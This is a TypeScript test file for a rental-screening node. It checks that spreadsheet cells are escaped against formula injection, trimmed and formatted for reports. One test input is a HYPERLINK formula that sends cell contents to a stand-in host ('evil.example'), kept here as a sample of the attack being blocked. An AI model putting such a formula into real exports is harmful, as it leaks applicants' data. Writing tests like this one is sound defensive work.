import fc from 'fast-check';

import { readFlags } from '../../../nodes/RentalScreening/results/applicant.ts';
import {
	escapeCell,
	escapeCells,
	formatForReport,
	toCell,
	type Format,
} from '../../../nodes/RentalScreening/results/cells.ts';

test('a cell that would run as a formula gets a word in front', () => {
	const formulas = [
		...['=1+1', '=HYPERLINK("http://evil.example?"&A1,"Click")', '+1+1', '-', '@SUM(A1)', "'=1+1"],
		...['+1-416-555-0100', '-12.5+1', '+14165550100=1', '＝1+1', '＋1+1', '－1', '＠SUM(A1)'],
	];
	const spaced = ['\t=1+1', '\u00A0=1+1', '\u200B=1+1', '\uFEFF=1+1', '\u0001=1+1', '\r\n=1+1'];
	expect(formulas.map(escapeCell)).toEqual(formulas.map((text) => `Text: ${text}`));
	expect(spaced.map(escapeCell)).toEqual(spaced.map(() => 'Text: =1+1'));
	const others = [
		...['', 'Jane', '2026-03-01', 'a=b', 'jane@example.com', '(+1)', "'Twas nice"],
		...['Text: =1+1', 'a＝b', '+14165550100', '-12.5', '+0.25'],
	];
	expect(others.map(escapeCell)).toEqual(others);
});

test('a cell has at most 32,767 characters', () => {
	expect(escapeCell('a'.repeat(32_767))).toBe('a'.repeat(32_767));
	expect(escapeCell(`=${'a'.repeat(32_767)}`)).toBe(`Text: =${'a'.repeat(32_759)}…`);
	expect(escapeCell(`${'a'.repeat(32_765)}😀bc`)).toBe(`${'a'.repeat(32_765)}…`);
});

test('a cell of any text is one line without invisible characters, and never begins like a formula', () => {
	expect(escapeCell('a\r\nb\r\v\u0085c\u2028\u2029=1 \0d')).toBe('a b c =1 d');
	const starts = fc.constantFrom('', '=', '+', '-', '@', '\t', '\r', '\u2028', '\v=', '-12.5\n=');
	const anyText = fc.string({ unit: fc.nat(0xffff).map((code) => String.fromCharCode(code)) });
	fc.assert(
		fc.property(anyText, starts, (rest, start) => {
			const cell = escapeCell(start + rest);
			expect(cell).not.toMatch(/[\n\v\f\r\p{C}\u2028\u2029]/u);
			if (/^[\s']*[=+\-@]/.test(cell)) expect(Number.isFinite(Number(cell))).toBe(true);
		}),
	);
});

test('all texts of an answer are safe cells but its IDs, which later nodes send back', () => {
	const given = { id: '=1', userId: '+abC/9==', note: '=1+1', score: -5, list: ['=1'], none: null };
	expect(escapeCells(given)).toEqual({ ...given, note: 'Text: =1+1' });
});

test.each<[Format, unknown, cell: unknown, inReport: string]>([
	['number', 480.256, 480.256, '480.26'],
	['number', 1e300, 1e300, `1${',000'.repeat(7)}…`],
	['number', NaN, null, ''],
	['amount', -1234567.891, -1234567.891, '-1,234,567.89'],
	['amount', 999.999, 999.999, '1,000.00'],
	['date', '2026-03-01T14:22:05.000Z', '2026-03-01T14:22:05.000Z', '2026-03-01'],
	['date', 'on 2026-03-01T14', 'on 2026-03-01T14', 'on 2026-03-01T14'],
	['term', 'FULL_TIME', 'FULL_TIME', 'Full time'],
	['term', 'CHECK_TYPE_DEEP_CHECK', 'CHECK_TYPE_DEEP_CHECK', 'Deep check'],
	['text', 'FULL_TIME', 'FULL_TIME', 'FULL_TIME'],
	['text', ' a\r\n b\u0000\u202Ec\uD800 ', 'a b c', 'a b c'],
	['text', 14165550100, '14165550100', '14165550100'],
	['text', { a: 1 }, null, ''],
	['text', 'a'.repeat(81), 'a'.repeat(81), `${'a'.repeat(79)}…`],
	['longText', 'a'.repeat(201), 'a'.repeat(201), `${'a'.repeat(199)}…`],
	['boolean', true, true, 'true'],
	['boolean', 'true', false, 'true'],
	['id', 7, '7', '7'],
	['id', 'a\nb', 'a\nb', 'a b'],
	['id', '', null, ''],
])('a %s of %j is the cell %j, and %j in a report', (format, value, cell, inReport) => {
	expect([toCell(format, value), formatForReport(format, value)]).toEqual([cell, inReport]);
});

test.each<[unknown, string[] | null]>([
	[
		[' two\nlines ', 'STABLE_INCOME', 7],
		['two lines', 'STABLE_INCOME', '7'],
	],
	[[{ description: 'Late', type: 'NSF_FEE', count: 2 }], ['Late (type NSF_FEE, count 2)']],
	[[{ code: 'X', message: 'Says it all' }], ['Says it all (code X)']],
	[[{ title: '  ', type: 'LATE' }], ['LATE']],
	[[{ kind: 'LATE', on_appeal: false }], ['kind LATE, on appeal false']],
	[
		[{ code: 'NSF', bank: { bankName: 'First Bank', fee: 48, none: null }, months: ['02', 3] }],
		['NSF (bank bank name First Bank, fee 48, months 02, 3)'],
	],
	[[{ code: null, other: {} }], ['No details given']],
	[[null, '', ' \n', []], []],
	// One in place of a list. A missing list is not an empty one.
	['Eviction', ['Eviction']],
	[{ description: 'Eviction' }, ['Eviction']],
	[null, null],
	[undefined, null],
])('the flags %j say %j', (flags, texts) => {
	expect(readFlags(flags)).toEqual(texts);
});
